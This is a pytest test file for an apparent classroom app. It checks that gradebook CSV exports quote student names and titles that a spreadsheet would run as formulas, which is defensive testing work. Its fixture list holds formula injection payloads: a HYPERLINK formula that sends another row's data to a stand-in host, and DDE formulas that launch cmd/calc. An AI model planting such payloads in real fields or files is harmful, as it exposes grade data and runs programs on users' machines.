"""A gradebook CSV opened in a spreadsheet must not run what a student typed as their name.

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ (or a tab or carriage
return before one) as a formula: `=HYPERLINK(...)` can send the other rows elsewhere when an
instructor clicks, and DDE formulas can start programs. Such cells leave with a leading '.
"""
import csv
import io

import pytest

from classroom.services import gradebook

HOSTILE_NAMES = [
    '=HYPERLINK("http://example.invalid/?"&B3,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("fmt", ["plain", "canvas"])
def test_cells_that_a_spreadsheet_would_run_are_quoted(app, world, fmt):
    teacher = world.instructor()
    course = world.course(teacher)
    world.assignment(teacher, course, [world.problem(teacher, course)], title="=1+1 Week")
    for name in HOSTILE_NAMES:
        world.student(course, name=name)
    world.student(course, name="Ada Lovelace")

    with app.app_context():
        body = gradebook.export_csv(world.s, teacher, course, fmt)
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    runnable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert runnable == [], runnable
    # Quoted, not dropped: the instructor still reads what the student typed.
    assert "'" + HOSTILE_NAMES[0] in cells or fmt == "canvas"
    assert any(c.startswith("'=1+1 Week") for c in cells)
    # Ordinary text and the scores are untouched.
    assert ("Ada Lovelace" if fmt == "plain" else "Lovelace, Ada") in cells
    assert "0" in cells
